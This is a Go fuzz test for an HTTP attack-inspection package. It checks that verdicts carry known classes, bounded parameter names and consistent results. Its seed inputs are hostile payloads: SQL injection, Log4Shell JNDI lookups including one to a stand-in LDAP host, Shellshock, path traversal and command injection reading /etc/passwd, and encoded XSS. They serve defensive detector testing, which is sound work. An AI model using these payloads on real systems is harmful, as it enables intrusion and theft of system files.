package webattack

import (
	"strings"
	"testing"

	httpproto "github.com/heir-emd/heir/internal/proto/http"
)

// FuzzInspect: any request gives verdicts of known classes and rules whose
// parameter is a name (never free text), within the work bound.
func FuzzInspect(f *testing.F) {
	seeds := [][4]string{
		{"/login.php?user=admin%27%20OR%20%271%27%3D%271", "User-Agent: sqlmap/1.7\r\n", "", ""},
		{"/../../etc/passwd", "Cookie: a=1; b=${jndi:ldap://x/a}\r\n", "", ""},
		{"/api", "X: () { :; }; id\r\n", "application/json", `{"q":"\u003cscript\u003e","n":["a';--"]}`},
		{"/f", "", "application/x-www-form-urlencoded", "a=%253Cscript%253E&b=1;cat%20/etc/passwd"},
		{"/x?%u003csvg/onload=alert(1)>=1", "", "text/xml", "<a>${${lower:j}ndi:x}</a>"},
		{"/q?id=1/*!50000union*/select", "Referer: javascript:alert(1)\r\n", "text/plain", "&#x3C;script&#62;"},
	}
	for _, s := range seeds {
		f.Add(s[0], s[1], s[2], s[3])
	}
	classes := map[string]bool{}
	for _, c := range Classes() {
		classes[c] = true
	}
	ids := RuleIDs()
	in := New(DefaultConfig())
	f.Fuzz(func(t *testing.T, target, headers, ctype, body string) {
		r := &httpproto.RawRequest{Method: "POST", Target: []byte(target),
			Head: []byte("POST " + target + " HTTP/1.1\r\n" + headers + "\r\n"), ContentType: []byte(ctype), Body: []byte(body)}
		before := in.Stats().Values
		out := in.Inspect(r, nil)
		if in.Stats().Values-before > 3*MaxParams+MaxHeaders+4*1024 {
			t.Fatalf("%d values inspected", in.Stats().Values-before)
		}
		for _, a := range out {
			if !classes[a.Class] || ids[a.Rule] != a.Class {
				t.Fatalf("verdict %+v", a)
			}
			switch a.Where {
			case "path", "query", "header", "body":
			default:
				t.Fatalf("where %q", a.Where)
			}
			p := strings.TrimPrefix(a.Param, "cookie:")
			if p == "(not a name)" {
				continue
			}
			if len(p) > maxNameLen {
				t.Fatalf("param %q too long", a.Param)
			}
			for _, c := range []byte(p) {
				if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.IndexByte("_-.[]$:", c) >= 0) {
					t.Fatalf("param %q is not a name", a.Param)
				}
			}
		}
		// Same input, same answer: no state leaks between requests.
		again := in.Inspect(r, nil)
		if len(again) != len(out) {
			t.Fatalf("second run gave %d verdicts, first %d", len(again), len(out))
		}
	})
}
